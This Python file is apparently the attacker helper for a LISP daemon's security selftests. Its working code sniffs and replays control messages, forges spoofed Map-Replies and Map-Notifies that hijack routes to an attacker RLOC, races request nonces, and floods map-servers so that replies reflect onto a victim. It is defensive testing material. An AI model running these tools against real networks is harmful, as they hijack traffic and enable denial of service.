#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""The attacker of selftests/cp_attack.sh: a host on the LISP underlay
that captures, replays and forges control messages (the encoding is
lispwire.py's, independent of lispd's codec).  Every subcommand prints
one JSON object on stdout.

  capture --iface IF --src A --dst B --type register|ecm [--count N]
          [--timeout S] [--ready FILE]
      AF_PACKET: UDP datagrams to port 4342 from A to B of that LISP
      type, one JSON line each (payload in hex), until N or S.
  replay --bind OWN --to MS --hex PAYLOAD... [--query EID] [--listen S]
      send captured payloads from OWN:4342, then (--query) an ECM
      Map-Request for EID with ITR-RLOC OWN; report what came back to
      OWN:4342 for S s: Map-Notifies, Map-Requests forwarded to us
      (a hijack), Map-Replies to our query.
  register --bind OWN --to MS --key K --alg sha1|sha256 [--key-id N]
           --rloc ADDR --eid PREFIX[@TTL]... [--wait S]
      Map-Registers signed with K (a compromised site's key), one per
      PREFIX (TTL in minutes, default 1440; 0 withdraws), each waiting
      up to S s for its Map-Notify (accepted): a JSON list.
  forge-replies --to ITR --src SPOOF --prefix P --rloc ATT [--count N]
      Map-Replies with random nonces from SPOOF:4342 (raw socket): a
      covering 0.0.0.0/1 and 0.0.0.0/0 TTL 0, P TTL 0, P -> ATT.
  forge-probe-replies --to ITR --src SPOOF --prefix P [--count N]
      answers to RLOC-probes (Map-Replies with the P bit) with random
      nonces from SPOOF:4342 (raw socket), P -> SPOOF: "SPOOF answers".
  forge-notify --to ITR --src SPOOF --prefix P --rloc ATT --xtr-id HEX
               --nonce N [--key K] [--alg sha1|sha256] [--count C]
      publications (RFC 9437: Map-Notifies with I, the subscriber's
      xTR-ID, P -> ATT) from SPOOF:4342 (raw socket), nonces N, N+1,
      ...; signed with K (not the map-server's), or unsigned without.
  race --iface IF --itr ITR --ms MS --src SPOOF --rloc ATT
       [--timeout S] [--ready FILE]
      wait for ITR's next Map-Request to MS and answer its nonce with
      0.0.0.0/1 -> ATT and 0.0.0.0/0 TTL 0.
  smr --to ITR --src ADDR|random:CIDR --eid E[,E...] [--count N]
      Solicit-Map-Requests (S bit) from spoofed sources.
  flood --to MS --src random:CIDR --itr-rloc VICTIM --eids CIDR[,CIDR]
        [--count N] [--port P]
      ECM Map-Requests from random sources whose answers go to VICTIM:P.
  sink --port P --seconds S [--stop FILE] [--ready FILE]
      count the datagrams arriving at P for S s, or until FILE exists
      and nothing came for 0.2 s.

Raw sockets (IP_HDRINCL) need CAP_NET_RAW; AF_PACKET sees frames for
other hosts only where the segment floods them (a hub).
"""
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import lispwire as w  # noqa: E402

ETH_P_IP = 0x0800


def out(obj):
    print(json.dumps(obj), flush=True)


def ready(path):
    if path:
        with open(path, "w") as f:
            f.write("ready\n")


def nonce64():
    return random.getrandbits(64)


def prefix(text):
    """"10.2.0.0/24" -> ("10.2.0.0", 24)"""
    n = ipaddress.ip_network(text, strict=False)
    return str(n.network_address), n.prefixlen


class Addrs:
    """ADDR, or random:CIDR (a fresh address of CIDR for each call)."""

    def __init__(self, spec):
        if spec.startswith("random:"):
            n = ipaddress.ip_network(spec[7:], strict=False)
            self.base = int(n.network_address)
            self.size = n.num_addresses
            self.fixed = None
        else:
            self.fixed = ipaddress.ip_address(spec).packed

    def packed(self):
        if self.fixed:
            return self.fixed
        return struct.pack("!I", self.base + random.randrange(self.size))


class Eids:
    """Random host addresses from a list of IPv4 prefixes."""

    def __init__(self, spec):
        self.nets = [ipaddress.ip_network(p, strict=False)
                     for p in spec.split(",")]

    def pick(self):
        n = random.choice(self.nets)
        return str(n.network_address + random.randrange(n.num_addresses))


def raw_socket():
    # IPPROTO_RAW: the header is ours (IP_HDRINCL); the kernel fills in
    # the checksum and, for a zero id, the id.
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    return s


def raw_send(s, pkt, dst):
    """sendto, waiting out a full queue (ENOBUFS) rather than losing."""
    while True:
        try:
            s.sendto(pkt, (dst, 0))
            return
        except OSError as e:
            if e.errno not in (105, 11):        # ENOBUFS, EAGAIN
                raise
            time.sleep(0.001)


def ipv4_template(dst, sport, dport, payload):
    """(head before the source, tail after it): IPv4 + UDP (checksum 0,
    allowed over IPv4) + payload, so that each packet only changes the
    source address."""
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    head = struct.pack("!BBHHHBB2s", 0x45, 0, 20 + len(udp) + len(payload),
                       0, 0x4000, 64, 17, b"\0\0")
    return head, ipaddress.ip_address(dst).packed + udp + payload


def udp_socket(bind, port=w.CONTROL_PORT):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((bind, port))
    return s


def summary(payload):
    """What a captured control message says, for the test to pick."""
    t = w.msg_type(payload)
    try:
        if t in (w.MAP_REGISTER, w.MAP_NOTIFY):
            m = w.parse_map_register(payload)
            return {"type": t, "nonce": "%016x" % m["nonce"],
                    "records": [{"eid": "%s/%d" % (r["eid"], r["plen"]),
                                 "ttl": r["ttl"]} for r in m["records"]]}
        if t == w.ECM:
            inner = w.parse_ecm(payload)
            m = w.parse_map_request(inner["payload"])
            return {"type": t, "nonce": "%016x" % m["nonce"],
                    "inner_sport": inner["sport"],
                    "eids": ["%s/%d" % (e["eid"], e["plen"])
                             for e in m["eids"]]}
    except (ValueError, struct.error, TypeError) as e:
        return {"type": t, "error": str(e)}
    return {"type": t}


def sniffer(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM,
                      socket.htons(ETH_P_IP))
    s.bind((iface, 0))
    return s


def sniff(s, src, dst, mtype, deadline):
    """The next UDP datagram src -> dst:4342 of LISP type mtype, or None."""
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return None
        s.settimeout(left)
        try:
            buf = s.recv(65535)
        except socket.timeout:
            return None
        p = w.parse_ip_udp(buf)
        if (p and p["src"] == src and p["dst"] == dst and
                p["dport"] == w.CONTROL_PORT and
                w.msg_type(p["payload"]) == mtype):
            return p


def cmd_capture(a):
    mtype = {"register": w.MAP_REGISTER, "ecm": w.ECM}[a.type]
    s = sniffer(a.iface)
    ready(a.ready)
    deadline = time.monotonic() + a.timeout
    for _ in range(a.count):
        p = sniff(s, a.src, a.dst, mtype, deadline)
        if not p:
            break
        rec = {"t": time.time(), "src": p["src"], "sport": p["sport"],
               "hex": p["payload"].hex()}
        rec.update(summary(p["payload"]))
        out(rec)
    return 0


def listen(s, seconds, nonce):
    """What reaches our port 4342 for seconds: see cmd_replay."""
    res = {"notifies": 0, "forwarded_to_us": 0, "replies": []}
    deadline = time.monotonic() + seconds
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return res
        s.settimeout(left)
        try:
            buf, frm = s.recvfrom(65535)
        except socket.timeout:
            return res
        t = w.msg_type(buf)
        if t == w.MAP_NOTIFY:
            res["notifies"] += 1
        elif t == w.ECM:
            # The Map-Server sent us a Map-Request: it takes us for the
            # ETR (nonce included: we could answer in the ETR's place).
            res["forwarded_to_us"] += 1
        elif t == w.MAP_REPLY:
            try:
                rep = w.parse_map_reply(buf)
            except (ValueError, struct.error) as e:
                res["replies"].append({"from": frm[0], "error": str(e)})
                continue
            if rep["nonce"] != nonce:
                continue
            res["replies"].append({
                "from": frm[0],
                "records": [{"eid": "%s/%d" % (r["eid"], r["plen"]),
                             "ttl": r["ttl"],
                             "rlocs": [x["addr"] for x in r["locators"]]}
                            for r in rep["records"]]})


def cmd_replay(a):
    s = udp_socket(a.bind)
    for h in a.hex:
        s.sendto(bytes.fromhex(h), (a.to, w.CONTROL_PORT))
    nonce = None
    if a.query:
        time.sleep(0.2)         # let the Map-Server take them first
        nonce = nonce64()
        req = w.map_request(nonce, [(a.query, 32, None)], [a.bind])
        s.sendto(w.ecm(a.bind, a.query, w.CONTROL_PORT, req),
                 (a.to, w.CONTROL_PORT))
    res = listen(s, a.listen, nonce)
    res["replayed"] = len(a.hex)
    out(res)
    return 0


def cmd_register(a):
    s = udp_socket(a.bind)
    res = []
    for spec in a.eid:
        pfx, _, ttl = spec.partition("@")
        ttl = int(ttl) if ttl else 1440
        eid, plen = prefix(pfx)
        nonce = nonce64()
        locs = [(a.rloc, 1, 100)] if ttl else []
        msg = w.build_map_register(nonce, [w.record(eid, plen, ttl, locs)],
                                   a.key, w.ALG[a.alg], a.key_id)
        s.sendto(msg, (a.to, w.CONTROL_PORT))
        notified = False
        deadline = time.monotonic() + a.wait
        while not notified and time.monotonic() < deadline:
            s.settimeout(max(deadline - time.monotonic(), 0.01))
            try:
                buf = s.recv(65535)
            except socket.timeout:
                break
            if w.msg_type(buf) == w.MAP_NOTIFY:
                notified = w.parse_map_register(buf)["nonce"] == nonce
        res.append({"eid": pfx, "ttl": ttl, "notified": notified})
    out(res)
    return 0


def cmd_forge_replies(a):
    s = raw_socket()
    p, plen = prefix(a.prefix)
    kinds = [
        [w.record("0.0.0.0", 1, 1440, [(a.rloc, 1, 100)])],
        [w.record("0.0.0.0", 0, 0, [], act=w.ACT_NATIVELY_FORWARD)],
        [w.record(p, plen, 0, [], act=w.ACT_NATIVELY_FORWARD)],
        [w.record(p, plen, 1440, [(a.rloc, 1, 100)])],
    ]
    for i in range(a.count):
        msg = w.build_map_reply(nonce64(), kinds[i % len(kinds)])
        raw_send(s, w.ip_udp(a.src, a.to, w.CONTROL_PORT, w.CONTROL_PORT,
                             msg), a.to)
    out({"sent": a.count, "kinds": len(kinds)})
    return 0


def cmd_forge_probe_replies(a):
    s = raw_socket()
    p, plen = prefix(a.prefix)
    for _ in range(a.count):
        msg = w.build_map_reply(nonce64(), [w.record(p, plen, 1440,
                                                     [(a.src, 1, 100)])],
                                probe=True)
        raw_send(s, w.ip_udp(a.src, a.to, w.CONTROL_PORT, w.CONTROL_PORT,
                             msg), a.to)
    out({"sent": a.count})
    return 0


def map_notify(nonce, records, xtr_id, key, alg):
    """A Map-Notify with I (RFC 9437): records, then the xTR-ID and a
    site-ID of 0; HMAC under key, or unsigned (algorithm 0) if no key."""
    word = w.MAP_NOTIFY << 28 | 1 << 27 | len(records)
    md, alen = w.ALG[w.ALG[alg]] if key else (None, 0)
    head = struct.pack("!IQBBH", word, nonce, 0, w.ALG[alg] if key else 0,
                       alen)
    body = b"".join(records) + bytes.fromhex(xtr_id) + bytes(8)
    if not key:
        return head + body
    import hmac     # here: loading OpenSSL costs seconds in a TCG guest
    digest = hmac.new(key.encode(), head + bytes(alen) + body, md).digest()
    return head + digest[:alen] + body


def cmd_forge_notify(a):
    s = raw_socket()
    p, plen = prefix(a.prefix)
    rec = w.record(p, plen, 1440, [(a.rloc, 1, 100)])
    for i in range(a.count):
        msg = map_notify((a.nonce + i) % (1 << 64), [rec], a.xtr_id, a.key,
                         a.alg)
        raw_send(s, w.ip_udp(a.src, a.to, w.CONTROL_PORT, w.CONTROL_PORT,
                             msg), a.to)
    out({"sent": a.count, "signed": bool(a.key)})
    return 0


def cmd_race(a):
    sn = sniffer(a.iface)
    ready(a.ready)
    p = sniff(sn, a.itr, a.ms, w.ECM, time.monotonic() + a.timeout)
    if not p:
        out({"error": "no Map-Request from %s seen" % a.itr})
        return 1
    inner = w.parse_ecm(p["payload"])
    req = w.parse_map_request(inner["payload"])
    s = raw_socket()
    forged = [
        [w.record("0.0.0.0", 1, 1440, [(a.rloc, 1, 100)])],
        [w.record("0.0.0.0", 0, 0, [], act=w.ACT_NATIVELY_FORWARD)],
    ]
    for recs in forged:
        msg = w.build_map_reply(req["nonce"], recs)
        raw_send(s, w.ip_udp(a.src, a.itr, w.CONTROL_PORT, inner["sport"],
                             msg), a.itr)
    out({"nonce": "%016x" % req["nonce"],
         "eids": ["%s/%d" % (e["eid"], e["plen"]) for e in req["eids"]],
         "sent": len(forged)})
    return 0


def cmd_smr(a):
    s = raw_socket()
    srcs = Addrs(a.src)
    eids = [(e, 32, None) for e in a.eid.split(",")]
    t0 = time.monotonic()
    for _ in range(a.count):
        src = srcs.packed()
        text = str(ipaddress.IPv4Address(src))
        msg = w.map_request(nonce64(), eids, [text], w.MREQ_S,
                            source_eid=eids[0][0])
        head, tail = ipv4_template(a.to, w.CONTROL_PORT, w.CONTROL_PORT, msg)
        raw_send(s, head + src + tail, a.to)
    out({"sent": a.count, "seconds": round(time.monotonic() - t0, 3)})
    return 0


def cmd_flood(a):
    s = raw_socket()
    srcs = Addrs(a.src)
    eids = Eids(a.eids)
    # A few hundred distinct requests (EIDs, nonces), sent in turn, each
    # from a fresh source: building one per packet would halve the rate.
    pkts = []
    for _ in range(256):
        eid = eids.pick()
        req = w.map_request(nonce64(), [(eid, 32, None)], [a.itr_rloc])
        msg = w.ecm(a.itr_rloc, eid, a.port, req)
        pkts.append(ipv4_template(a.to, w.CONTROL_PORT, w.CONTROL_PORT, msg))
    size = sum(len(t) - 12 for _, t in pkts) // len(pkts)  # UDP payload
    t0 = time.monotonic()
    for i in range(a.count):
        head, tail = pkts[i & 255]
        raw_send(s, head + srcs.packed() + tail, a.to)
    out({"sent": a.count, "request_bytes": size,
         "seconds": round(time.monotonic() - t0, 3)})
    return 0


def cmd_sink(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    s.bind(("0.0.0.0", a.port))
    s.settimeout(0.2)
    ready(a.ready)
    res = {"packets": 0, "bytes": 0, "max_bytes": 0, "from": {}}
    deadline = time.monotonic() + a.seconds
    while time.monotonic() < deadline:
        try:
            buf, frm = s.recvfrom(65535)
        except socket.timeout:
            if a.stop and os.path.exists(a.stop):
                break
            continue
        res["packets"] += 1
        res["bytes"] += len(buf)
        res["max_bytes"] = max(res["max_bytes"], len(buf))
        res["from"][frm[0]] = res["from"].get(frm[0], 0) + 1
    out(res)
    return 0


REQUIRED = object()

# Each subcommand's function and options: name -> (type, default).
COMMANDS = {
    "capture": (cmd_capture, {
        "iface": (str, REQUIRED), "src": (str, REQUIRED),
        "dst": (str, REQUIRED), "type": (str, REQUIRED),
        "count": (int, 1), "timeout": (float, 10), "ready": (str, None)}),
    "replay": (cmd_replay, {
        "bind": (str, REQUIRED), "to": (str, REQUIRED),
        "hex": (list, REQUIRED), "query": (str, None),
        "listen": (float, 1.5)}),
    "register": (cmd_register, {
        "bind": (str, REQUIRED), "to": (str, REQUIRED),
        "key": (str, REQUIRED), "alg": (str, "sha256"),
        "key-id": (int, 0), "eid": (list, REQUIRED),
        "rloc": (str, REQUIRED), "wait": (float, 1)}),
    "forge-replies": (cmd_forge_replies, {
        "to": (str, REQUIRED), "src": (str, REQUIRED),
        "prefix": (str, REQUIRED), "rloc": (str, REQUIRED),
        "count": (int, 100)}),
    "forge-probe-replies": (cmd_forge_probe_replies, {
        "to": (str, REQUIRED), "src": (str, REQUIRED),
        "prefix": (str, REQUIRED), "count": (int, 100)}),
    "forge-notify": (cmd_forge_notify, {
        "to": (str, REQUIRED), "src": (str, REQUIRED),
        "prefix": (str, REQUIRED), "rloc": (str, REQUIRED),
        "xtr-id": (str, REQUIRED),
        "nonce": (lambda v: int(v, 0), REQUIRED),
        "key": (str, None), "alg": (str, "sha256"), "count": (int, 10)}),
    "race": (cmd_race, {
        "iface": (str, REQUIRED), "itr": (str, REQUIRED),
        "ms": (str, REQUIRED), "src": (str, REQUIRED),
        "rloc": (str, REQUIRED), "timeout": (float, 10),
        "ready": (str, None)}),
    "smr": (cmd_smr, {
        "to": (str, REQUIRED), "src": (str, REQUIRED),
        "eid": (str, REQUIRED), "count": (int, 1000)}),
    "flood": (cmd_flood, {
        "to": (str, REQUIRED), "src": (str, REQUIRED),
        "itr-rloc": (str, REQUIRED), "eids": (str, REQUIRED),
        "count": (int, 20000), "port": (int, w.CONTROL_PORT)}),
    "sink": (cmd_sink, {
        "port": (int, w.CONTROL_PORT), "seconds": (float, REQUIRED),
        "stop": (str, None), "ready": (str, None)}),
}


class Options:
    pass


def parse(argv):
    """SUBCOMMAND --name value ... (a list option takes every value up to
    the next --name).  argparse would do, but importing it costs seconds
    in a TCG guest whose files come over 9p."""
    if not argv or argv[0] not in COMMANDS:
        raise ValueError("a subcommand: " + " ".join(COMMANDS))
    fn, spec = COMMANDS[argv[0]]
    vals, name = {}, None
    for arg in argv[1:]:
        if arg.startswith("--"):
            name = arg[2:]
            if name not in spec:
                raise ValueError("%s: no option --%s" % (argv[0], name))
            if spec[name][0] is not list or name not in vals:
                vals[name] = [] if spec[name][0] is list else None
        elif name is None:
            raise ValueError("%s: %s is no option" % (argv[0], arg))
        elif spec[name][0] is list:
            vals[name].append(arg)
        elif vals[name] is None:
            vals[name] = spec[name][0](arg)
        else:
            raise ValueError("--%s: one value" % name)
    a = Options()
    for name, (typ, default) in spec.items():
        v = vals.get(name)
        if v is None or v == []:
            if default is REQUIRED:
                raise ValueError("%s: --%s is needed" % (argv[0], name))
            v = default
        setattr(a, name.replace("-", "_"), v)
    return fn, a


def main():
    try:
        fn, a = parse(sys.argv[1:])
    except ValueError as e:
        sys.stderr.write("lisp_attack.py: %s\n%s" % (e, __doc__))
        return 2
    return fn(a)


if __name__ == "__main__":
    sys.exit(main())
